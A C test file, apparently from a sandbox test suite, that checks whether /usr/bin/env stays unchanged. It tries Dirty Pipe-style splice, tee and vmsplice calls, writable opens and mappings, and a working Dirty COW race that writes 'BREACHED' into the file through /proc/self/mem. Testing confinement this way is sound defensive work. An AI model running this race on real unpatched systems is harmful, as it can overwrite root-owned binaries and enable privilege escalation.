/*
 * row: 32
 * title: Read-only files stay as they are, in the page cache as well.
 * tries: splice, tee, vmsplice into a file's pages (dirty pipe); a race of
 *    MADV_DONTNEED and writes to /proc/self/mem (dirty cow); write to shared
 *    and private mappings of /usr/bin/env
 */

#include "attack.h"

#include <pthread.h>
#include <sys/uio.h>


static volatile int  stop;
static char         *map;
static size_t        size;


static void *
advise(void *arg)
{
    while (!stop) {
        (void) madvise(map, 4096, MADV_DONTNEED);
    }

    return arg;
}


static void *
overwrite(void *arg)
{
    int  fd, i;

    fd = open("/proc/self/mem", O_RDWR);

    for (i = 0; fd != -1 && i < 20000; i++) {
        (void) pwrite(fd, "BREACHED", 8, (off_t) (uintptr_t) map);
    }

    stop = 1;
    return arg;
}


int
main(void)
{
    int           fd, again, pipes[2];
    char          first[64], now[64];
    pthread_t     a, b;
    struct stat   st;
    struct iovec  iov = { first, 8 };

    fd = open("/usr/bin/env", O_RDONLY);
    if (fd == -1 || fstat(fd, &st) == -1 || pipe(pipes) == -1) {
        breach("cannot begin");
    }

    size = st.st_size;
    (void) pread(fd, first, sizeof(first), 0);

    refused("splice", SYS_splice, fd, NULL, pipes[1], NULL, 1UL, 0);
    refused("tee", SYS_tee, pipes[0], pipes[1], 1UL, 0);
    refused("vmsplice", SYS_vmsplice, pipes[1], &iov, 1UL, 0);

    if (open("/usr/bin/env", O_RDWR) != -1
        || open("/usr/bin/env", O_WRONLY | O_TRUNC) != -1)
    {
        breach("/usr/bin/env opens for writing");
    }

    if (mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)
        != MAP_FAILED)
    {
        breach("a writable shared mapping of /usr/bin/env");
    }

    map = mmap(NULL, size, PROT_READ, MAP_PRIVATE, fd, 0);
    (void) pthread_create(&a, NULL, advise, NULL);
    (void) pthread_create(&b, NULL, overwrite, NULL);
    (void) pthread_join(b, NULL);
    (void) pthread_join(a, NULL);

    again = open("/usr/bin/env", O_RDONLY);
    (void) pread(again, now, sizeof(now), 0);
    if (memcmp(first, now, sizeof(now)) != 0) {
        breach("/usr/bin/env has changed");
    }

    return held();
}
